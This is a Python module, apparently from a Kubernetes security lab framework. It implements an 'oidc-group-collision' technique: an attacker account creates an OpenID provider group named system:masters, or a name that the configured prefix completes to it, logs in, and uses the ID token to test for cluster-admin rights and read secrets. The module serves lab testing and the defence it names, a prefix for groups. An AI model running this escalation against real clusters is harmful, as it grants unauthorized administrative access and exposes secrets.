"""Become cluster-admin by a group of the OpenID provider with a name of the cluster.

The apiserver takes a person's groups from their ID token. Without a prefix, a group of the provider
and a group of the cluster with the same name are one. The attacker needs an ordinary account at the
provider, and the right to name a group there, which many providers give everybody. They create the
group ``system:masters``, log in, and show the apiserver the token. With a prefix that is the start
of that name, they create a group with the rest of it. Any other prefix for groups stops it: the
token then makes them a member of a group that nobody has given a right.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.lab.provider import log_in, required_provider
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model
from labkit.model.decision import EVERYTHING, MASTERS, Action
from labkit.model.id_tokens import caller_by_id_token, collides, id_token_authenticators
from labkit.model.providers import provider_of
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    ASK_IDENTITY,
    CHANNEL,
    api_url,
    apiserver_of,
    everything_allowed,
    everything_review,
    identity,
    in_turn,
    may_all,
)
from labkit.techniques._lib.api.people import ask_who, person_is_known
from labkit.techniques._lib.machines.admin import SECRETS_IN
from labkit.techniques._lib.machines.reach import execution_place, legitimate, request
from labkit.techniques._lib.technique import (
    ADMIN,
    COPIED_CREDENTIAL,
    Prediction,
    SentRequest,
    Technique,
    all_of,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab
    from labkit.model.decision import Caller

__all__ = ["TECHNIQUE"]

#: The account of the attacker.
ATTACKER = "mallory"
LIST = Action("list", "secrets", namespace="shop")


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether an account may make the group, and as whom its token is known."""
    env = model.environment
    apiserver, provider = apiserver_of(env), provider_of(env)
    caller = _known_as(env)
    if provider is None or caller is None:
        accepted = id_token_authenticators(env, apiserver)
        if accepted is None or any(map(collides, accepted)):
            return Prediction(None, ("what a provider's accounts may do is not known",))
        return Prediction(False, (f"no provider names groups of the cluster: {apiserver.source}",))
    if MASTERS not in caller.groups:
        known = caller.claim.value != "unknown"
        return Prediction(False if known else None, (str(caller.claim),))
    return all_of(
        holds(provider.groups_by_accounts, "allow-all"), may_all(model, caller, [EVERYTHING])
    )


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return what the token is shown for: who one is, and then what one may do or read."""
    env = model.environment
    provider, caller = provider_of(env), _known_as(env)
    if provider is None or caller is None:
        return []
    made = holds(provider.groups_by_accounts, "allow-all")
    second = ASK_EVERYTHING if MASTERS in caller.groups else LIST
    return in_turn(model, caller, ASK_IDENTITY, second, sent=made)


def _known_as(env: Environment) -> Caller | None:
    """Return as whom the apiserver knows the token, or None without a provider."""
    provider = provider_of(env)
    if provider is None or provider.client is None:
        return None
    claims = provider.claims(ATTACKER, provider.client, (_group(env),))
    return caller_by_id_token(env, apiserver_of(env), provider.issuer.value, claims)


def _group(env: Environment) -> str:
    """Return the name of a group that is ``system:masters`` behind its prefix, if one can be."""
    for it in id_token_authenticators(env, apiserver_of(env)) or ():
        mapping = it.groups
        if mapping and not mapping.expression and MASTERS.startswith(mapping.prefix):
            return MASTERS.removeprefix(mapping.prefix) or MASTERS
    return MASTERS


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Create the group, log in, and ask the apiserver as whom it knows the token."""
    with legitimate():
        control = person_is_known(lab)
    node, _, _ = execution_place(lab, foothold)
    group = _group(lab.environment)
    made = f"{ATTACKER} makes a group {group} at {required_provider(lab).issuer.value}"
    with leaving(lab, Trace("provider group", f"{group} {ATTACKER}", node)):
        said = log_in(lab, node, ATTACKER, group=group)
        if "error" in said:
            raise ProbeError(f"{made}: {said['error']}")
        if "refused" in said:
            return _verdict(lab, foothold, False, "the provider refuses", made, control=control)
        answer = ask_who(lab, foothold, said["id_token"])
        if answer.refusal:
            if answer.refusal not in ("HTTP 401", "HTTP 403"):
                raise ProbeError(f"{TECHNIQUE.name}: {answer.refusal} is no known refusal")
            return _verdict(lab, foothold, False, answer.refusal, made, control=control)
        user, groups = identity(answer)
        mine = next((it for it in groups if it.endswith(group)), "")
        if not mine:
            raise ProbeError(f"the apiserver knows {user} by no group of the token")
        known = f"the apiserver knows the token as {user}, in {mine}"
        if mine != MASTERS:
            secrets = request(
                lab, api_url(lab, SECRETS_IN), foothold=foothold, token=said["id_token"]
            )
            known += f"; secrets: {secrets.refusal or f'HTTP {secrets.status}'}"
            return _verdict(lab, foothold, False, f"known as {mine}", made, known, control=control)
        url = api_url(lab, ACCESS_REVIEW)
        body, token = everything_review(), said["id_token"]
        answer = request(lab, url, foothold=foothold, body=body, token=token)
        proof = everything_allowed(answer)
        return _verdict(lab, foothold, True, f"HTTP {answer.status}", made, known, proof)


def _verdict(
    lab: Lab, foothold: Foothold, succeeded: bool, reason: str, *evidence: str, control: str = ""
) -> Verdict:
    return Verdict(TECHNIQUE.name, lab.mode, foothold, succeeded, reason, evidence, control)


def _settings(env: Environment) -> list[Setting]:
    found: list[Setting] = []
    for it in id_token_authenticators(env, apiserver_of(env)) or ():
        if it.groups is not None:
            prefix = it.groups.prefix or "none"
            found.append(("prefix of groups", prefix, str(it.groups.source)))
    return found


TECHNIQUE = Technique(
    name="oidc-group-collision",
    title="Name a group of the OpenID provider system:masters",
    footholds=(COPIED_CREDENTIAL,),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("authorization",),
    attack=("T1098", "T1550.001"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-290", "CWE-269"),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/authentication/"
        "#openid-connect-tokens",
        "https://canaille.readthedocs.io/en/latest/references/configuration.html",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
    leaves=("provider group",),
    machines=("idp",),
    modes=("oidc-insecure", "oidc-hardened"),
)
